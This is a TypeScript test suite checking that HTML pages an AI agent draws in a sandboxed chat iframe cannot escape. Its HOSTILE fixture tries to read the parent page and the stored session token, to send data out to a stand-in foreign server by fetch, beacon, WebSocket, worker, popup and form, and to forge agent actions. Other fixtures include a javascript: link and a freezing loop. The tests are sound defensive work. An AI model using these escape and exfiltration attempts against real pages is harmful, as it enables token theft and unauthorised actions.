import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually } from '../support/eventually.js';
import { useChat, type ChatPage } from '../support/chat-page.js';
import { drawingAgent } from '../support/drawing-agent.js';
import { addressOf } from '../support/page-checks.js';

/** Tries to leave by each way there is, and says on the page what came of it. */
const HOSTILE = `<h1>Hostile</h1><p id="found"></p><img src="ORIGIN/img"><link rel="stylesheet" href="ORIGIN/css">
<iframe src="ORIGIN/frame"></iframe><form id="f" action="ORIGIN/form" method="post"><input name="a"></form>
<script>
const found = [];
const attempt = async (name, action) => {
  try { const value = await action(); if (value) found.push(name + '=' + value); } catch {}
};
(async () => {
  await attempt('parent', () => parent.document.body.innerText);
  await attempt('top', () => top.location.href);
  await attempt('token', () => sessionStorage.length + localStorage.length + document.cookie);
  await attempt('parentToken', () => parent.sessionStorage.getItem('openclaw.webchat.token'));
  await attempt('fetch', () => fetch('ORIGIN/fetch').then(() => 'sent'));
  await attempt('own', () => fetch('/health').then((response) => response.status));
  await attempt('chat', () => fetch('/chat').then((response) => response.status));
  await attempt('beacon', () => navigator.sendBeacon('ORIGIN/beacon') && undefined);
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ORIGIN'.replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = reject;
  }));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker('ORIGIN/worker.js'); worker.onmessage = () => resolve('ran'); worker.onerror = reject;
  }));
  await attempt('popup', () => open('ORIGIN/popup') && 'opened');
  await attempt('form', () => document.getElementById('f').submit());
  await attempt('topgo', () => { top.location = 'ORIGIN/top'; });
  await attempt('forged', () => parent.postMessage({ type: 'action', action: 'forged' }, '*'));
  canvas.action('unasked', {});
  canvas.openLink('https://example.org/unasked');
  document.getElementById('found').textContent = 'found: ' + (found.join(' ') || 'nothing');
})();
</script>`;

const BUTTONS = `<button onclick="canvas.action('pay', { amount: 5 })">Pay</button>
<button onclick="canvas.openLink('https://example.org/there')">Read more</button>
<button onclick="canvas.openLink('javascript:alert(1)')">Script</button>`;

const read = (file: string) => readFileSync(`test/inputs/canvas/${file}`, 'utf8');
const plans: Record<string, { readonly tool: string; readonly parameters: object }[]> = {};
const show = (html: string) => [
  { tool: 'canvas.show', parameters: { surface_id: 'p', kind: 'html', title: 'A page', html } },
];

const suite = useChat({ agent: drawingAgent(plans) as never, settings: { 'tools.default_permissions': ['canvas'] } });
/** The paths that are requested from a foreign server. */
const requests: (string | undefined)[] = [];
const foreign = createServer((request, response) => {
  requests.push(request.url);
  response.end();
});

beforeAll(async () => {
  foreign.listen(0, '127.0.0.1');
  await once(foreign, 'listening');
  const origin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const withOrigin = (html: string) => html.replaceAll('ORIGIN', origin);
  Object.assign(plans, {
    hostile: show(withOrigin(HOSTILE)),
    leaves: show(withOrigin(read('self-navigation.html'))),
    grows: show(read('grow.html')),
    buttons: show(BUTTONS),
    freezes: show('<p>Freezes</p><script>setTimeout(() => { for (;;); }, 500)</script>'),
    broken: show('<p>Broken</p><script>Promise.reject(new Error("late"))</script><script>nothing.at.all()</script>'),
    read: [{ tool: 'canvas.read', parameters: { surface_id: 'p' } }],
  });
});
afterAll(() => void foreign.close());

async function draw(content: string): Promise<ChatPage> {
  const chat = await suite.open({ viewport: { width: 1_440, height: 900 } });
  await chat.ask(content);
  return chat;
}

describe('a page of an agent', () => {
  it('[Y-08] reaches neither the chat, nor the network, nor the token, and does not act by itself', async () => {
    const chat = await draw('hostile');
    const frame = chat.page.frameLocator('canvas-page iframe');
    await frame.getByText('found: nothing').waitFor();
    expect(requests).toEqual([]);
    expect(await chat.said.allInnerTexts()).toEqual(['hostile']);
    expect(await chat.page.getByText('The page wants to open').count()).toBe(0);
    expect(await addressOf(chat.page)).toContain('/chat');
    // What the frame has tried violates its own policy.
    chat.complaints.violations.length = 0;
  });

  it('[Y-08] that leaves is taken away, and what it said does not leave', async () => {
    const chat = await draw('leaves');
    await chat.page.getByText('The page has left').waitFor();
    expect(await chat.page.locator('canvas-page iframe').count()).toBe(0);
    expect(requests).toEqual([]);
    chat.complaints.violations.length = 0;
  });

  it('[Y-08] grows to the limit of the panel, whatever it says', async () => {
    const chat = await draw('grows');
    const frame = chat.page.locator('canvas-page iframe');
    await chat.page.frameLocator('canvas-page iframe').getByText('growing').waitFor();
    await eventually(async () => expect((await frame.boundingBox())?.height).toBeGreaterThan(400));
    expect((await frame.boundingBox())?.height).toBeLessThanOrEqual(0.8 * 900 + 2);
    await chat.ask('buttons', 2);
  });

  it('[Y-08] sends what a person presses, once, and asks before a link', async () => {
    const chat = await draw('buttons');
    const frame = chat.page.frameLocator('canvas-page iframe');
    await frame.getByRole('button', { name: 'Script' }).click();
    await frame.getByRole('button', { name: 'Read more' }).click();
    await chat.page.getByText('The page wants to open https://example.org/there').waitFor();
    await chat.page.getByRole('button', { name: 'Stay here' }).click();
    await frame.getByRole('button', { name: 'Pay' }).dblclick();
    await chat.page
      .locator('.reply')
      .getByText('action {"surface_id":"p","version":1,"action":"pay","context":{"amount":5}}')
      .waitFor();
    expect(await chat.said.allInnerTexts()).toEqual(['buttons', 'pay']);
  });

  it('[Y-13] reports to its agent what fails in it', async () => {
    const chat = await draw('broken');
    await chat.page.frameLocator('canvas-page iframe').getByText('Broken').waitFor();
    await chat.ask('read', 2);
    const said = chat.page.locator('.reply').last();
    await eventually(async () => expect(await said.innerText()).toContain('nothing is not defined'));
    expect(await said.innerText()).toContain('unhandled rejection: Error: late');
    // The browser reports what the page throws.
    chat.complaints.errors.length = 0;
  });

  it('[Y-10] that has stopped the chat is drawn in another tab only on request', async () => {
    const chat = await draw('buttons');
    const pay = (page: typeof chat.page) =>
      page.frameLocator('canvas-page iframe').getByRole('button', { name: 'Pay' }).waitFor();
    await pay(chat.page);
    // A page that is left in the usual way is not remembered.
    await chat.page.reload();
    await pay(chat.page);
    await chat.ask('freezes', 2);
    const address = await addressOf(chat.page);
    await eventually(async () => {
      const other = await chat.context.newPage();
      await other.goto(address);
      await other.getByText('Drawing this surface did not end').waitFor({ timeout: 5_000 });
      expect(await other.locator('canvas-page iframe').count()).toBe(0);
      await other.getByRole('button', { name: 'Close' }).first().waitFor();
      await other.close();
    });
    chat.complaints.errors.length = 0;
  });

  it('[Y-08] is not a document of its own: its address leads to a page of the gateway around it', async () => {
    const chat = await draw('buttons');
    const address = await chat.page.locator('canvas-page iframe').getAttribute('src');
    const page = await chat.context.newPage();
    await page.goto(address ?? '');
    expect(await addressOf(page)).toBe(address?.replace(/\/page$/, ''));
    await page.frameLocator('iframe').getByRole('button', { name: 'Pay' }).waitFor();
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts');
    await page.close();
  });
});
